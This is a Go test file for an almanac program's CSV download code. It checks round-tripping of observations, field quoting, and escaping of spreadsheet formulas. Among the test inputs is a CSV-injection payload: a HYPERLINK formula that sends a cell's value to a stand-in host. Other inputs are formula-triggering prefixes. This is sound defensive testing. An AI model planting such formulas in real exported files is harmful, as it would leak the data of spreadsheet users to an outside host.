package download

import (
	"bytes"
	"encoding/csv"
	"os"
	"strings"
	"testing"
	"testing/fstest"

	"almanac/internal/area"
	"almanac/internal/edition"
	"almanac/internal/framework"
	"almanac/internal/observation"
	"almanac/internal/source"
)

// read gives the demonstration's newest edition.
func read(t *testing.T) *edition.Edition {
	t.Helper()
	var probs source.Problems
	fsys := os.DirFS("../..")
	reg, err := area.ReadRegister(fsys, "data/areas.csv", &probs)
	if err != nil {
		t.Fatal(err)
	}
	e, err := edition.Read(fsys, "2016", reg, map[string]*framework.Framework{}, &probs)
	if err != nil || probs.Errors() > 0 {
		t.Fatal(err, probs.Sorted())
	}
	return e
}

// TestADownloadHoldsEveryObservation reads the download of every measure with
// another CSV reader, turns its rows back into an observation file, and reads
// that: nothing may be lost or changed.
func TestADownloadHoldsEveryObservation(t *testing.T) {
	e := read(t)
	var all []framework.MeasureIndex
	for m := range e.Framework.Measures {
		all = append(all, framework.MeasureIndex(m))
	}
	rows, err := csv.NewReader(bytes.NewReader(NewLines(e, wording(t)).AppendCSV(nil, e.Table, all))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	at := map[string]int{}
	for i, name := range rows[0] {
		at[name] = i
	}
	var back bytes.Buffer
	w := csv.NewWriter(&back)
	for _, row := range rows {
		var out []string
		for _, c := range []string{"measure", "breakdown", "area", "period", "value", "symbol", "numerator", "denominator", "lower", "upper", "marks", "note"} {
			out = append(out, row[at[c]])
		}
		if err := w.Write(out); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	var probs source.Problems
	again, err := observation.Read(fstest.MapFS{"d.csv": {Data: back.Bytes()}}, []string{"d.csv"}, e.Framework, e.Register, &probs)
	if err != nil || probs.Errors() > 0 {
		t.Fatal(err, probs.Sorted())
	}
	if again.Len() != e.Table.Len() || len(rows)-1 != e.Table.Len() {
		t.Errorf("%d observations, %d rows, %d read back", e.Table.Len(), len(rows)-1, again.Len())
	}
	for _, m := range all {
		for c := range e.Framework.Width(m) {
			for a := range e.Register.Areas {
				want, got := e.Table.Series(m, framework.CategoryIndex(c), area.Index(a)), again.Series(m, framework.CategoryIndex(c), area.Index(a))
				for p := range want {
					if want[p].Symbol != got[p].Symbol || want[p].Number != got[p].Number || want[p].Marks != got[p].Marks || e.Table.Detail(want[p]) != again.Detail(got[p]) {
						t.Fatalf("%s %s %s changed", e.Framework.Measures[m].ID, e.Register.Areas[a].Slug, e.Table.Periods(m)[p])
					}
				}
			}
		}
	}
}

func TestWordsAreNoFormulas(t *testing.T) {
	cases := []struct{ in, want string }{
		{"=1+1", " =1+1"},
		{`=HYPERLINK("http://x.example?"&A1,"more")`, `" =HYPERLINK(""http://x.example?""&A1,""more"")"`},
		{"+44", " +44"},
		{"-1+1", " -1+1"},
		{"@SUM(A1)", " @SUM(A1)"},
		{"\t=1", " =1"},
		{"\r\n=1", " =1"},
		{"  =1", " =1"},
		{"\u00a0=1", " =1"},
		{"＝1", " ＝1"},
		{"a =1", "a =1"},
		{"– as published", "– as published"},
		{"1-2", "1-2"},
		{" ", " "},
		{"", ""},
	}
	for _, c := range cases {
		if got := string(appendField(nil, c.in)); got != c.want {
			t.Errorf("%q is written %q, want %q", c.in, got, c.want)
		}
	}
}

// TestANoteThatLooksLikeAFormulaComesBackAsItWas reads it from a download as this
// program does.
func TestANoteThatLooksLikeAFormulaComesBackAsItWas(t *testing.T) {
	const note = "=1+1, as published"
	e := read(t)
	rows := "measure,breakdown,area,period,value,note\nn4,,thornmere,2016,1.0,\"" + note + "\"\n"
	var probs source.Problems
	table, err := observation.Read(fstest.MapFS{"n04.csv": {Data: []byte(rows)}}, []string{"n04.csv"}, e.Framework, e.Register, &probs)
	if err != nil || probs.Errors() > 0 {
		t.Fatal(err, probs.Sorted())
	}
	e.Table = table
	n4, _ := e.Framework.Measure("n4")
	data := NewLines(e, wording(t)).AppendCSV(nil, e.Table, []framework.MeasureIndex{n4})
	if !bytes.HasSuffix(data, []byte(",\" "+note+"\"\n")) {
		t.Errorf("the download ends with %q", data[len(data)-60:])
	}
	back := strings.Replace(rows, `"`+note, `" `+note, 1)
	again, err := observation.Read(fstest.MapFS{"n04.csv": {Data: []byte(back)}}, []string{"n04.csv"}, e.Framework, e.Register, &probs)
	if err != nil || probs.Errors() > 0 {
		t.Fatal(err, probs.Sorted())
	}
	thornmere, _ := e.Register.BySlug("thornmere")
	if got := again.Detail(again.Series(n4, 0, thornmere)[0]).Note; got != note {
		t.Errorf("the note comes back as %q", got)
	}
}

func TestFieldsAreQuotedWhereTheyMustBe(t *testing.T) {
	for in, want := range map[string]string{"plain": "plain", "a, b": `"a, b"`, `say "so"`: `"say ""so"""`, "two\nlines": "\"two\nlines\""} {
		if got := string(appendField(nil, in)); got != want {
			t.Errorf("%q is written %s, want %s", in, got, want)
		}
	}
}
